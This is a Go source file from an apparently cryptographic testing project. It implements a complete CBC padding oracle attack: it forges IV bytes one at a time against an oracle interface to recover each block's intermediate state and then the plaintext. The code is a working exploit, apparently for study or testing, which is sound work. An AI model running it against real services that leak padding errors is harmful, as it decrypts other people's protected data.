package attack

import (
	"context"

	"github.com/samber/oops"

	"blockprobe/internal/crypto"
)

// DecryptCBC recovers the plaintext of a CBC ciphertext from a padding oracle alone. Each
// block is attacked in isolation: a forged IV is tuned byte by byte, last byte first, until
// the oracle accepts the padding, which reveals the block's intermediate state.
func DecryptCBC(ctx context.Context, po PaddingOracle, ciphertext, iv []byte) ([]byte, error) {
	bs := len(iv)
	if bs == 0 || len(ciphertext) == 0 || len(ciphertext)%bs != 0 {
		return nil, oops.In("attack").With("len", len(ciphertext), "iv_len", bs).Wrapf(crypto.ErrInvalidLength, "ciphertext")
	}
	plain := make([]byte, 0, len(ciphertext))
	prev := iv
	for i := 0; i < len(ciphertext)/bs; i++ {
		cur := block(ciphertext, i, bs)
		inter, err := intermediate(ctx, po, cur)
		if err != nil {
			return nil, oops.In("attack").With("block", i).Wrap(err)
		}
		for j := range inter {
			plain = append(plain, inter[j]^prev[j])
		}
		prev = cur
	}
	return crypto.ValidatePadding(plain, bs)
}

// intermediate returns D(cur), the block before it is XORed with the previous ciphertext.
func intermediate(ctx context.Context, po PaddingOracle, cur []byte) ([]byte, error) {
	bs := len(cur)
	inter := make([]byte, bs)
	forge := make([]byte, bs)
	for pos := bs - 1; pos >= 0; pos-- {
		pad := byte(bs - pos)
		for k := pos + 1; k < bs; k++ {
			forge[k] = inter[k] ^ pad
		}
		found := false
		for g := 0; g < 256 && !found; g++ {
			forge[pos] = byte(g)
			ok, err := po.ValidPadding(ctx, cur, forge)
			if err != nil {
				return nil, err
			}
			if !ok {
				continue
			}
			if pos == bs-1 && bs > 1 {
				// the hit may be \x02\x02 or longer; changing the byte before must not matter for \x01
				perturb := make([]byte, bs)
				perturb[pos-1] = 0xFF
				ok, err = po.ValidPadding(ctx, cur, crypto.TweakIV(forge, perturb))
				if err != nil {
					return nil, err
				}
				if !ok {
					continue
				}
			}
			inter[pos] = byte(g) ^ pad
			found = true
		}
		if !found {
			return nil, violated("no byte produced valid padding", "pos", pos)
		}
	}
	return inter, nil
}
